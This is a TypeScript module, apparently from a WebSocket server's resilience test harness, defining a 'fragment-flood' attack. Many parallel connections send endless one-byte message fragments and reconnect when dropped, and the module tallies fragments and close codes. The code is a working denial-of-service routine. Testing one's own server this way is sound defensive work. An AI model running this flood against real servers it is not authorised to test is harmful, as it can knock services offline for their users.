import { clientFrame } from '../transport/client-frames.js';
import type { Attack, Figures } from './attack.js';
import { AttackSocket } from './attack-socket.js';

const FRAGMENTS_AT_ONCE = 512;

/** Messages of one-byte fragments that never end; whoever is cut off comes again, so many times. */
export const fragmentFlood: Attack = {
  name: 'fragment-flood',
  async run(field) {
    const first = clientFrame(Buffer.alloc(1), { opcode: 2, fin: false });
    const more = Buffer.concat(
      Array.from({ length: FRAGMENTS_AT_ONCE }, () => clientFrame(Buffer.alloc(1), { opcode: 0, fin: false })),
    );
    const untilMs = performance.now() + field.durationMs;
    const figures: Figures = { rounds: 0, fragments: 0 };
    async function attack(): Promise<void> {
      while (performance.now() < untilMs) {
        const attacker = await AttackSocket.upgrade(field);
        if (typeof attacker === 'number') continue;
        await attacker.write(first);
        while (attacker.open && performance.now() < untilMs) {
          await attacker.write(more);
          figures['fragments'] = (figures['fragments'] ?? 0) + FRAGMENTS_AT_ONCE;
          await new Promise(setImmediate);
        }
        figures['rounds'] = (figures['rounds'] ?? 0) + 1;
        const name = `closed_${attacker.closeCode ?? 'not'}`;
        figures[name] = (figures[name] ?? 0) + 1;
        attacker.destroy();
      }
    }
    await Promise.all(Array.from({ length: field.count }, attack));
    return figures;
  },
};
